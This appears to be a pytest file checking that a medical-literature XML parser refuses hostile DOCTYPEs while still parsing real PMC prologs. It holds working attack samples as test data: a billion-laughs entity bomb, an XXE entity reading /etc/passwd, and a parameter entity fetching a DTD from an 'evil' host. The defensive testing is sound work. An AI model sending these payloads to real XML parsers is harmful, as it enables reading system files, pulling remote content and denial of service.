"""xmlsafe: hostile DOCTYPEs are refused before parsing, real PMC/PubMed prologs parse."""
import pytest

from medcurate.xmlsafe import (
    HostileXML,
    XMLSyntaxError,
    iterparse_xml,
    local_name,
    parse_xml,
    root_name,
    strip_namespaces,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<article><p>&xxe;</p></article>"""
PARAMETER_ENTITY = b"""<!DOCTYPE a [<!ENTITY % ext SYSTEM "http://example.org/evil.dtd"> %ext;]><a/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY, XXE.decode().encode("utf-16")],
                         ids=["billion-laughs", "xxe", "parameter-entity", "xxe-utf16"])
def test_entity_declarations_are_refused(doc):
    with pytest.raises(HostileXML):
        parse_xml(doc)
    with pytest.raises(HostileXML):
        list(iterparse_xml(doc, ("p",)))


def test_real_pmc_prolog_parses(shared_data):
    data = (shared_data / "pmc_jats/plos_allofplos/journal.pone.0160653.xml").read_bytes()
    assert data.lstrip().startswith(b"<?xml") and b"<!DOCTYPE article PUBLIC" in data[:400]
    root = parse_xml(data)
    assert root.tag == "article" and root.find("front/article-meta") is not None


def test_internal_subset_without_entities_is_allowed_and_inert():
    root = parse_xml(b'<!DOCTYPE a [<!ATTLIST a x CDATA "1">]><a>ok</a>')
    assert root.text == "ok"


def test_undeclared_entity_is_malformed_not_fetched():
    with pytest.raises(XMLSyntaxError):
        parse_xml(b"<a>&nbsp;</a>")


def test_malformed_raises_syntax_error():
    with pytest.raises(XMLSyntaxError):
        parse_xml(b"<article><p>unclosed</article>")


def test_comments_and_processing_instructions_are_dropped():
    root = parse_xml(b"<a>x<!-- note --><?pi data?>y</a>")
    assert len(root) == 0 and "".join(root.itertext()) == "xy"


def test_root_name_skips_prolog():
    head = b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE x PUBLIC "a" "b.dtd">\n<oai:OAI-PMH xmlns:oai="u">'
    assert root_name(head) == "OAI-PMH"
    assert root_name(b"<!-- never closed") is None


def test_namespace_helpers():
    root = parse_xml(b'<r xmlns="urn:x" xmlns:m="urn:m"><p m:a="1"><m:math/></p></r>')
    assert local_name(root.tag) == "r" and local_name(root[0][0].tag) == "math"
    strip_namespaces(root)
    assert [el.tag for el in root.iter()] == ["r", "p", "math"]
    assert root[0].get("{urn:m}a") == "1"  # attributes keep their namespace


def test_iterparse_clears_what_it_yielded():
    doc = b"<set>" + b"".join(b"<rec><id>%d</id></rec>" % i for i in range(5)) + b"</set>"
    seen = []
    for el in iterparse_xml(doc, ("rec",)):
        seen.append(el.findtext("id"))
        assert el.getparent().index(el) <= 1  # all but the previous (cleared) record were deleted
    assert seen == ["0", "1", "2", "3", "4"]
